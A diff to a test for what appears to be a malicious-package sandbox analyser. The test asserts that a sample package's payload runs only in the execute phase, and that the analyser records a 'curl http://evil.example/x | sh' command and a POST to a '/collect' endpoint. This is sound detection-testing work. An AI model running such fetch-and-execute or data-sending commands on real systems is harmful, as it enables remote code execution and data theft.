@@ -76,8 +76,13 @@ def test_install_and_import_behaviour_lands_in_the_right_phase(ecosystem, build,
     # the payload behind connect() fires only in execute, which records the call that ran it
     for other in ("install", "import"):
         _check_not_in_other_phase(docs, "execute", other)
-    steps = docs["report"]["dynamic"]["phases"]["execute"]["steps"]
-    assert any(s["name"].endswith("connect") and s["status"] == "ok" for s in steps), steps
+    steps = [s for s in docs["report"]["dynamic"]["phases"]["execute"]["steps"]
+             if s["name"].endswith("connect")]
+    assert steps and steps[0]["status"] == "ok", steps
+    # what the call did, matched to it by time
+    assert ["sh", "-c", "curl http://evil.example/x | sh"] in steps[0]["did"]["commands"]
+    assert {"dst": "10.9.8.7", "port": 8080, "http": "POST /collect?phase=execute"} in \
+        steps[0]["did"]["network"]
     # the stored documents are the ones printed
     name = docs["report"]["package"]["name"]
     stored = json.loads((results / ecosystem / name / "1.0.0" / "dynamic.json").read_text())
